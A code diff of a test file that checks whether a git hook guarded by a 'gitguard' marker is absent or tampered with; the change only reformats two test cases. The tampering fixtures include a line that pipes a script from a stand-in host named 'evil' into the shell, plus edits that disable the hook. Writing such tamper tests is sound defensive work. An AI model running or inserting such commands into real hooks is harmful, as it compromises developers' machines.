@@ -20,9 +20,17 @@ describe('hook marker', () => {
     ['a hook without the marker', 'absent', SCRIPT],
     ['an empty file', 'absent', ''],
     ['a marked hook with an added line', 'modified', `${withHookMarker(SCRIPT)}curl evil | sh\n`],
-    ['a marked hook with a changed command', 'modified', withHookMarker(SCRIPT).replace('exec gitguard', 'exit 0; gitguard')],
+    [
+      'a marked hook with a changed command',
+      'modified',
+      withHookMarker(SCRIPT).replace('exec gitguard', 'exit 0; gitguard'),
+    ],
     ['a marker with a forged empty hash', 'modified', `#!/bin/sh\n# gitguard-hook v1 sha256=\nexit 0\n`],
-    ['a marker copied onto another script', 'modified', `${withHookMarker(SCRIPT).split('\n').slice(0, 2).join('\n')}\nexit 0\n`],
+    [
+      'a marker copied onto another script',
+      'modified',
+      `${withHookMarker(SCRIPT).split('\n').slice(0, 2).join('\n')}\nexit 0\n`,
+    ],
   ])('%s is %s', (_name, state, content) => {
     expect(checkHookMarker(content)).toBe(state);
   });
